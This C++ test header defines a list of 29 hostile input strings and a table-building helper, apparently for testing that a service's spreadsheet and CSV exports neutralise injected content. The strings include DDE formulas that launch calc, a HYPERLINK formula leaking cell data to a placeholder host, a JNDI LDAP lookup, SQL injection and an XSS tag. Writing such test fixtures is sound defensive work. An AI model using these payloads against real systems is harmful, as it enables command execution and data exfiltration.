// SPDX-License-Identifier: Apache-2.0
// Parts of answers for the tests of their writers, and names that mean harm: the payloads of SECURITY T14 and 5.7.
#pragma once

#include <string>
#include <vector>

#include "service/answer_table.hpp"

namespace chayan::service::testing {

/// 29 texts, each with a way of its own to be run or to break a file.
inline const std::vector<std::string>& hostile_texts() {
    static const std::vector<std::string> texts{
        "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u3000=1+1", "\u00a0=1+1",
        "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "|calc", "%0A=1", "=HYPERLINK(\"http://x.invalid/?\"&A1,\"x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
        std::string("\0=1", 3), "\uFEFF=1+1", "a\"b,=1+1", "a\r\n=1+1,b", "{=1+1}", "' OR 1=1--", "<script>alert(1)</script>", "${jndi:ldap://x.invalid}",
        "_x003D_1+1", "\u202E=1+1"};
    return texts;
}

/// A part named "rows" with the columns c0 (text) and c1 (number).
inline AnswerPart part_of(std::vector<Row> rows) {
    AnswerPart part;
    part.name = "rows";
    part.title = "行";
    part.columns = {{"c0", ColumnKind::text, "文字"}, {"c1", ColumnKind::number, "数"}};
    part.count = rows.size();
    part.fill = [rows = std::move(rows)](std::uint64_t number, Row& row) { row = rows[number]; };
    return part;
}

}  // namespace chayan::service::testing
